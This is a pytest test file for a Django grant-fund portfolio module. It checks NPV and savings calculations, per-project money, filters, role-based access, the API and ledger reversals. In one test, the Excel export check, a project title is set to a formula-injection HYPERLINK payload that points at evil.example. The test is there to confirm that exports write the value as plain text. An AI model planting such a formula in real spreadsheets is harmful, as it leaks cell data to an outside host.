"""The portfolio's figures against hand-computed numbers (see conftest.py for the fund)."""

import io
import re
import zipfile

import pytest

from sifra.applications.models import Application
from sifra.portfolio import selectors
from sifra.portfolio.models import CaseSavingYear, CaseSummary
from sifra.portfolio.summaries import case_summaries_refresh, stale_count
from tests.portfolio.conftest import _project

# The NPV counts every actor: 500 000 kr to the committee and 250 000 kr to the region a year
# for three years, discounted at 3,5 %, less 1 000 000 kr in year 0.
NPV_BY_HAND = 750_000 * (1 + 1 / 1.035 + 1 / 1.035**2) - 1_000_000  # 1 174 770,71 kr


@pytest.fixture
def computed(portfolio_fund):
    fund, a, b = portfolio_fund
    assert case_summaries_refresh(fund=fund) == 2
    return fund, a, b


def _rows(fund, **filters):
    projects = selectors.portfolio_projects(fund=fund, filters=selectors.PortfolioFilter(**filters))
    return {r.project.code: r for r in selectors.rows_of(list(selectors.with_money(projects)))}


def test_the_summary_holds_the_case_figures_by_hand(computed):
    _fund, a, _b = computed
    summary = CaseSummary.objects.get(project=a)
    assert summary.npv == pytest.approx(1_174_770.71, abs=0.01)
    assert summary.npv == pytest.approx(NPV_BY_HAND)
    assert summary.p_npv_positive == 1.0  # no uncertainty: the NPV is what it is
    assert summary.savings == {"2020": 500_000.0, "2021": 500_000.0, "2022": 500_000.0}
    assert summary.expost_npv is None  # not evaluated


def test_the_forecast_by_year_is_kept_as_rows_in_ore(computed):
    """CaseSavingYear: the summary's savings by year, in öre, written with it and filled by the
    data migration for summaries computed before."""
    import importlib

    from django.apps import apps

    _fund, a, b = computed

    def rows():
        return sorted((r.project_id, r.year, r.savings) for r in CaseSavingYear.objects.all())

    expected = [
        (p.pk, y, 50_000_000)
        for p in sorted((a, b), key=lambda p: p.pk)
        for y in (2020, 2021, 2022)
    ]
    assert rows() == expected
    CaseSavingYear.objects.all().delete()
    importlib.import_module("sifra.portfolio.migrations.0002_case_saving_years").fill(apps, None)
    assert rows() == expected


def test_money_per_project(computed):
    fund, _a, _b = computed
    rows = _rows(fund)
    a, b = rows["P-A"], rows["P-B"]
    assert (a.granted, a.disbursed) == (150_000_000, 100_000_000)  # 2 MSEK less 0,5 released
    assert (a.claimed, a.repaid, a.claims_outstanding) == (12_500_000, 0, 12_500_000)
    assert (b.granted, b.disbursed) == (100_000_000, 100_000_000)
    assert (b.claimed, b.repaid, b.claims_outstanding) == (30_000_000, 30_000_000, 0)


def test_realisation_per_project_compares_the_same_years(computed):
    fund, _a, _b = computed
    rows = _rows(fund)
    # A: 250 000 kr verified for 2021, against the case's 500 000 kr for 2021 only
    assert (rows["P-A"].verified, rows["P-A"].forecast) == (25_000_000, 50_000_000)
    assert rows["P-A"].realisation == 0.5
    assert rows["P-B"].realisation == pytest.approx(1.2)  # 600 000 against 500 000


def test_totals_and_the_funds_realisation(computed):
    fund, _a, _b = computed
    t = selectors.portfolio_totals(selectors.portfolio_projects(fund=fund))
    assert t.count == 2
    assert (t.granted, t.disbursed) == (250_000_000, 200_000_000)
    assert (t.claimed, t.repaid, t.claims_outstanding) == (42_500_000, 30_000_000, 12_500_000)
    assert (t.verified, t.forecast) == (85_000_000, 100_000_000)
    assert t.realisation == pytest.approx(0.85)
    assert t.by_year == [
        {"year": 2020, "forecast": 50_000_000, "verified": 60_000_000},
        {"year": 2021, "forecast": 50_000_000, "verified": 25_000_000},
    ]


def test_filters(computed, unit_b, coordinator):
    fund, a, _b = computed
    assert set(_rows(fund, unit_id=unit_b.pk)) == {"P-B"}
    assert set(_rows(fund, year=2020)) == {"P-A", "P-B"}
    assert set(_rows(fund, year=2021)) == set()
    a.status = "closed"
    a.save(update_fields=["status"])
    assert set(_rows(fund, status="closed")) == {"P-A"}
    # a participating unit finds the project too
    a.units.add(unit_b)
    assert set(_rows(fund, unit_id=unit_b.pk)) == {"P-A", "P-B"}


def test_a_changed_case_makes_its_summary_stale(computed):
    fund, a, _b = computed
    assert stale_count(fund=fund) == 0
    application = Application.objects.get(project=a)
    application.case = {**application.case, "participants": {"entering": [20]}}
    application.save()
    assert stale_count(fund=fund) == 1
    assert case_summaries_refresh(fund=fund) == 1
    # twice the participants: twice the savings
    assert CaseSummary.objects.get(project=a).savings["2021"] == 1_000_000.0


def test_a_project_without_a_case_has_no_figures(computed, unit_a, coordinator):
    fund, _a, _b = computed
    _project(fund, "P-C", unit_a, coordinator, case=False)
    assert stale_count(fund=fund) == 1
    case_summaries_refresh(fund=fund)
    row = _rows(fund)["P-C"]
    assert (row.has_summary, row.npv, row.p_npv_positive, row.forecast) == (True, None, None, None)


def test_an_evaluated_project_gets_its_expost_npv(computed, users):
    from sifra.evaluation.models import Evaluation

    fund, a, _b = computed
    Evaluation.objects.create(
        project=a, method="quasi", effect="0.1", ci_low="0.05", ci_high="0.15",
        evaluator="FoU", created_by=users["coordinator"],
    )  # fmt: skip
    assert stale_count(fund=fund) == 1
    case_summaries_refresh(fund=fund)
    assert stale_count(fund=fund) == 0  # the evaluation is now older than the summary
    summary = CaseSummary.objects.get(project=a)
    # a fifth of the effect: 150 000 kr a year to both actors for three years, less 1 MSEK
    expected = 150_000 * (1 + 1 / 1.035 + 1 / 1.035**2) - 1_000_000
    assert summary.expost_npv == pytest.approx(expected, rel=0.05)
    assert summary.expost_npv < 0 < summary.npv


def test_who_paid_and_who_saved(computed, unit_a, unit_b):
    fund, _a, _b = computed
    m = selectors.payer_saver(fund=fund)
    assert {u.pk for u in m.payers} == {unit_a.pk, unit_b.pk}
    assert m.spent == {unit_a.pk: 100_000_000, unit_b.pk: 100_000_000}
    assert m.saved == {(unit_a.pk, unit_b.pk): 25_000_000, (unit_b.pk, unit_b.pk): 60_000_000}
    assert m.repaid == {(unit_b.pk, unit_b.pk): 30_000_000}
    assert m.saved_elsewhere == 25_000_000  # A paid, B saved
    assert [u.pk for u in m.savers] == [unit_b.pk]
    only_2020 = selectors.payer_saver(fund=fund, year=2020)
    assert only_2020.saved == {(unit_b.pk, unit_b.pk): 60_000_000}


def test_the_excel_export_writes_text_as_text(computed, client, users):
    fund, a, _b = computed
    a.title = '=HYPERLINK("https://evil.example/?x="&A2;"Klicka")'
    a.save(update_fields=["title"])
    client.force_login(users["economist"])
    response = client.get(f"/portfolio/{fund.pk}/portfolio.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere
    assert "HYPERLINK" in strings and "P-B" in strings


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("coordinator", 200),
        ("decision_maker", 200),
        ("economist", 200),
        ("auditor", 200),
        ("council", 200),
        ("applicant", 403),
    ],
)
def test_who_may_see_the_portfolio(computed, client, users, role, status):
    fund, _a, _b = computed
    client.force_login(users[role])
    for url in (f"/portfolio/{fund.pk}/", f"/portfolio/{fund.pk}/payer-saver/"):
        assert client.get(url).status_code == status
    assert client.get(f"/api/funds/{fund.pk}/portfolio").status_code == status
    assert client.get(f"/api/funds/{fund.pk}/payer-saver").status_code == status


def test_the_pages_show_the_projects_and_the_matrix(computed, client, users, unit_b):
    fund, _a, _b = computed
    client.force_login(users["auditor"])
    page = client.get(f"/portfolio/{fund.pk}/").content.decode()
    assert "P-A" in page and "P-B" in page and 'id="realisation-chart"' in page
    assert 'data-total="realisation">85 %' in page
    matrix = client.get(f"/portfolio/{fund.pk}/payer-saver/").content.decode()
    assert unit_b.name in matrix and 'id="matrix-chart"' in matrix
    repaid = client.get(f"/portfolio/{fund.pk}/payer-saver/?measure=repaid").content.decode()
    assert re.search(r"300\s000 kr", repaid)  # B repaid its claim of 300 000 kr


def test_the_api_answers_as_the_page(computed, client, users):
    fund, _a, _b = computed
    client.force_login(users["decision_maker"])
    body = client.get(f"/api/funds/{fund.pk}/portfolio?limit=1").json()
    assert (body["count"], len(body["projects"]), body["stale"]) == (2, 1, 0)
    assert body["projects"][0]["code"] == "P-A"
    assert body["projects"][0]["realisation"] == 0.5
    assert body["totals"]["realisation"] == pytest.approx(0.85)
    assert body["totals"]["granted_ore"] == 250_000_000
    second = client.get(f"/api/funds/{fund.pk}/portfolio?limit=1&offset=1").json()
    assert second["projects"][0]["code"] == "P-B"
    bad = client.get(f"/api/funds/{fund.pk}/portfolio?status=nonsense")
    assert bad.status_code == 400 and "status" in bad.json()["errors"]
    matrix = client.get(f"/api/funds/{fund.pk}/payer-saver").json()
    assert (matrix["saved_ore"], matrix["saved_elsewhere_ore"]) == (85_000_000, 25_000_000)


def test_refresh_computes_in_the_worker(portfolio_fund, client, users, settings):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    fund, _a, _b = portfolio_fund
    client.force_login(users["auditor"])
    assert client.post(f"/api/funds/{fund.pk}/portfolio/refresh").status_code == 403
    client.force_login(users["economist"])
    response = client.post(f"/api/funds/{fund.pk}/portfolio/refresh")
    assert response.status_code == 202
    assert response.json() == {"stale": 0}  # the immediate backend has already run it
    assert CaseSummary.objects.filter(project__fund=fund).count() == 2


def test_the_page_says_when_figures_are_missing(portfolio_fund, client, users):
    fund, _a, _b = portfolio_fund
    client.force_login(users["coordinator"])
    page = client.get(f"/portfolio/{fund.pk}/").content.decode()
    assert "2 projects are not computed yet" in page or "2 projekt" in page


def test_year_filter_refuses_nonsense(computed, client, users):
    fund, _a, _b = computed
    client.force_login(users["coordinator"])
    assert client.get(f"/portfolio/{fund.pk}/?year=abc").status_code == 200
    assert client.get(f"/api/funds/{fund.pk}/portfolio?year=abc").status_code == 400


def test_a_reversed_entry_no_longer_counts(computed, users):
    from sifra.funds.models import LedgerEntry
    from sifra.funds.services import ledger_entry_reverse

    fund, a, _b = computed
    release = LedgerEntry.objects.get(project=a, kind="release")
    disbursement = LedgerEntry.objects.get(project=a, kind="disbursement")
    for entry in (disbursement, release):
        ledger_entry_reverse(entry=entry, text="Fel", acting_user=users["coordinator"])
    row = _rows(fund)["P-A"]
    # the release reversed: all 2 MSEK granted again; the disbursement reversed: none paid
    assert (row.granted, row.disbursed) == (200_000_000, 0)
    t = selectors.portfolio_totals(selectors.portfolio_projects(fund=fund))
    assert (t.granted, t.disbursed) == (300_000_000, 100_000_000)
